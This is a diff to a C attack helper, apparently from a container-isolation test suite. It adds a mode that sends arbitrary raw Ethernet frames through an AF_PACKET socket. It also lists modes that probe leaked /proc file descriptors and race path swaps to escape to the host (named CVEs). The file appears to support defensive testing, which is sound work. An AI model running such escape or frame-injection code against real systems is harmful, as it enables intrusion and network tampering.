@@ -6,6 +6,7 @@
  *	attack fds MS FILE		looks through /proc/PID/fd of others for a way to the host: a
  *					directory that is not below our root, or one above which FILE lies
  *					(CVE-2016-9962, CVE-2024-21626)
+ *	attack frames IFACE HEX...	sends these frames as they are
  *	attack swap MS A B		exchanges A and B all the time (CVE-2021-30465)
  *
  * Prints a line and exits with 1 once it has succeeded; `exe` and `fds` begin with a line "ready". */
@@ -13,10 +14,13 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <linux/if_packet.h>
+#include <net/if.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <time.h>
@@ -145,16 +149,39 @@ static int swap(long end, const char *a, const char *b)
 	return 0;
 }
 
+static int frames(const char *iface, char **hex)
+{
+	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
+	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(iface)};
+
+	for (; *hex; hex++) {
+		unsigned char frame[2048];
+		unsigned byte;
+		size_t n = 0;
+
+		while (n < sizeof frame && sscanf(*hex + 2 * n, "%2x", &byte) == 1)
+			frame[n++] = (unsigned char)byte;
+		if (sendto(fd, frame, n, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)n) {
+			perror("attack: send");
+			return 2;
+		}
+	}
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	long end = argc > 2 ? now_ms() + atol(argv[2]) : 0;
 
 	if (argc == 5 && !strcmp(argv[1], "swap"))
 		return swap(end, argv[3], argv[4]);
+	if (argc > 3 && !strcmp(argv[1], "frames"))
+		return frames(argv[2], argv + 3);
 	if (argc == 4 && !strcmp(argv[1], "fds"))
 		return watch(try_fds, end, argv[3]);
 	if (argc < 3 || strcmp(argv[1], "exe")) {
-		fprintf(stderr, "usage: attack exe MS OWN... | fds MS FILE | swap MS A B\n");
+		fprintf(stderr, "usage: attack exe MS OWN... | fds MS FILE | frames IFACE HEX... | "
+				"swap MS A B\n");
 		return 2;
 	}
 	for (int i = 3; i < argc && n_own < KEPT; i++)
